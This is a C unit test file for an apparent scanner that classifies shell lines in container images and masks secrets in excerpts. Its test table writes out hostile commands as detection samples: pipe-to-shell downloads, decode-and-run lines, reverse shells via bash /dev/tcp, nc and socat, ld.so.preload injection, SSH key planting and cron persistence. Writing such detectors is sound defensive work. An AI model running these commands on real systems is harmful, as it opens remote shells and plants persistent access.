/* SPDX-License-Identifier: Apache-2.0 */
/* Lines of shell: what they do, and which programs they name. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "base/buf.h"
#include "scan/image/excerpt.h"
#include "scan/image/script.h"

static const struct {
	const char *line;
	unsigned deeds;
} lines[] = {
	{"", 0},
	{"# curl http://x.invalid | sh", 0},
	{"echo hello | sort | uniq", 0},
	{"curl -fsSL https://x.invalid/a.sh -o a.sh", SCRIPT_FETCHES},
	{"curl -fsSL https://x.invalid/a.sh | sh", SCRIPT_FETCHES | SCRIPT_FETCH_RUNS},
	{"curl -fsSL https://x.invalid/a.sh |sudo -E bash -", SCRIPT_FETCHES | SCRIPT_FETCH_RUNS},
	{"wget -qO- http://x.invalid/a | python3",
		SCRIPT_FETCHES | SCRIPT_FETCH_RUNS | SCRIPT_PLAIN_HTTP},
	{"wget -qO- http://localhost/a | tar x", SCRIPT_FETCHES},
	{"curl https://x.invalid/a || sh fallback", SCRIPT_FETCHES},
	{"curl https://x.invalid/a | tee shell.txt", SCRIPT_FETCHES},
	{"bash <(curl -s https://x.invalid/a)", SCRIPT_FETCHES | SCRIPT_FETCH_RUNS},
	{"sh -c \"$(curl -fsSL https://x.invalid/a)\"", SCRIPT_FETCHES | SCRIPT_FETCH_RUNS},
	{"eval \"$(wget -qO- https://x.invalid/a)\"", SCRIPT_FETCHES | SCRIPT_FETCH_RUNS},
	{"VERSION=$(curl -s https://x.invalid/version)", SCRIPT_FETCHES},
	{"wget https://x.invalid/a -O /usr/bin/a && chmod +x /usr/bin/a",
		SCRIPT_FETCHES | SCRIPT_FETCH_STARTS},
	{"curl -k https://x.invalid/a", SCRIPT_FETCHES | SCRIPT_UNVERIFIED},
	{"curl -sSLk https://x.invalid/a", SCRIPT_FETCHES | SCRIPT_UNVERIFIED},
	{"curl -o k https://x.invalid/a", SCRIPT_FETCHES},
	{"pip install --trusted-host x.invalid a", SCRIPT_UNVERIFIED},
	{"apt-get install -y --allow-unauthenticated a", SCRIPT_UNVERIFIED},
	{"npm config set strict-ssl false", SCRIPT_UNVERIFIED},
	{"echo aGk= | base64 -d | sh", SCRIPT_DECODE_RUNS},
	{"eval \"$(echo aGk= | base64 --decode)\"", SCRIPT_DECODE_RUNS},
	{"echo aGk= | base64 -d > file", 0},
	{"bash -i >& /dev/tcp/127.0.0.1/9 0>&1", SCRIPT_CONNECTS},
	{"nc 127.0.0.1 9 -e /bin/sh", SCRIPT_CONNECTS},
	{"nc -z 127.0.0.1 9", 0},
	{"socat exec:'bash -li',pty tcp:127.0.0.1:9", SCRIPT_CONNECTS},
	{"/tmp/a --daemon", SCRIPT_RUNS_TEMPORARY},
	{"nohup /dev/shm/.x/a &", SCRIPT_RUNS_TEMPORARY | SCRIPT_RUNS_HIDDEN},
	{"cp a /tmp/a", 0},
	{"TMP=/tmp/a", 0},
	{"TMP=/tmp/a /usr/bin/b", 0},
	{"TMP=/usr /tmp/b", SCRIPT_RUNS_TEMPORARY},
	{"cat < /tmp/a > /tmp/b", 0},
	{"true && /usr/lib/.x/y", SCRIPT_RUNS_HIDDEN},
	{"echo /usr/lib/a.so >> /etc/ld.so.preload", SCRIPT_PRELOADS},
	{"cat /etc/ld.so.preload", 0},
	{"LD_PRELOAD=/usr/lib/libjemalloc.so a", 0},
	{"export LD_PRELOAD=/tmp/a.so", SCRIPT_PRELOADS},
	{"cat k >> ~/.ssh/authorized_keys", SCRIPT_PLANTS_KEY},
	{"(crontab -l; echo x) | crontab -", SCRIPT_PLANTS_CRON},
	{"chattr +i /etc/passwd", SCRIPT_IMMUTABLE},
};

static void deeds_are_seen(void **state)
{
	for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
		unsigned deeds = script_deeds(str_of(lines[i].line));

		if (deeds != lines[i].deeds)
			fail_msg("%s: %#x, not %#x", lines[i].line, deeds, lines[i].deeds);
		assert_true(strlen(script_deed_name(deeds)) > 5);
	}
}

/* No byte behind the line is read, and any cut of a line can be read. */
static void any_cut_of_a_line_can_be_read(void **state)
{
	for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
		size_t n = strlen(lines[i].line);

		for (size_t len = 0; len <= n; len++) {
			char *copy = test_malloc(len + 1);

			memcpy(copy, lines[i].line, len);
			script_deeds(str_make(copy, len));
			test_free(copy);
		}
	}
}

static void assert_words(const char *line, const char *want)
{
	struct script_words w = script_words_of(str_of(line));
	struct buf b = BUF_INIT(4096);
	struct str word;

	while (script_next_word(&w, &word)) {
		if (b.len)
			buf_add_char(&b, ' ');
		buf_add(&b, word);
	}
	assert_string_equal(b.s ? b.s : "", want);
	buf_done(&b);
}

static void words_name_programs(void **state)
{
	assert_words("exec gosu redis redis-server /etc/redis.conf",
		"gosu redis-server /etc/redis.conf");
	assert_words("if test -f /x/y; then node server.js; fi", "/x/y node");
	assert_words("FOO=bar /usr/bin/a -o /b", "/usr/bin/a /b");
	assert_words("A=/x/y", "/x/y");
	assert_words("a | b && c; (d) `e`", "");
	assert_words("aa | bb && cc; (dd) `ee` $(ff)", "aa bb cc dd ee ff");
	assert_words("echo hello # /not/this", "");
	assert_words("nice -n 5 python3 app.py", "nice python3");
	assert_words("cat < /in > /out", "cat /in /out");
}

static void lines_that_go_on_are_one(void **state)
{
	struct str rest = STR("a \\\n b\nc"), line;

	assert_true(script_next_line(&rest, &line));
	assert_true(str_is(line, "a \\\n b\n"));
	assert_true(script_next_line(&rest, &line));
	assert_true(str_is(line, "c"));
	assert_false(script_next_line(&rest, &line));
}

/* ---- excerpts ----------------------------------------------------------------------------- */

static void assert_excerpt(const char *text, const char *want)
{
	struct arena a;

	arena_init(&a, 0);
	assert_string_equal(excerpt_of(&a, str_of(text)).s, want);
	arena_done(&a);
}

static void secrets_are_not_shown(void **state)
{
	assert_excerpt("curl https://x.invalid/a", "curl https://x.invalid/a");
	assert_excerpt("DB_PASSWORD=hunter2 a", "DB_PASSWORD=*** a");
	assert_excerpt("password: hunter2", "password: hunter2"); /* no value without a sign */
	assert_excerpt("password:hunter2", "password:***");
	assert_excerpt("mysql --password hunter2", "mysql --password ***");
	assert_excerpt("echo root:toor | chpasswd", "echo root:*** | chpasswd");
	assert_excerpt(
		"git clone https://me:hunter2@x.invalid/a", "git clone https://me:***@x.invalid/a");
	assert_excerpt("key 0123456789abcdef0123456789abcdef", "key 0123***");
	assert_excerpt(
		"/usr/lib/x86_64-linux-gnu/libx.so.1", "/usr/lib/x86_64-linux-gnu/libx.so.1");
	assert_excerpt("a\1\x1b[31mb\tc", "a..[31mb c");
}

static void an_excerpt_is_the_line_around(void **state)
{
	struct arena a;
	char text[1000];

	arena_init(&a, 0);
	assert_true(str_is(excerpt_line(&a, STR("one\ntwo here\nthree"), 8), "two here"));
	assert_int_equal(excerpt_line_number(STR("one\ntwo here\nthree"), 8), 2);
	assert_int_equal(excerpt_line_number(STR("one"), 0), 1);
	memset(text, 'a', sizeof(text));
	text[500] = ' ';
	assert_true(excerpt_line(&a, str_make(text, sizeof(text)), 501).len <= EXCERPT_MAX);
	arena_done(&a);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(deeds_are_seen),
		cmocka_unit_test(any_cut_of_a_line_can_be_read),
		cmocka_unit_test(words_name_programs),
		cmocka_unit_test(lines_that_go_on_are_one),
		cmocka_unit_test(secrets_are_not_shown),
		cmocka_unit_test(an_excerpt_is_the_line_around),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
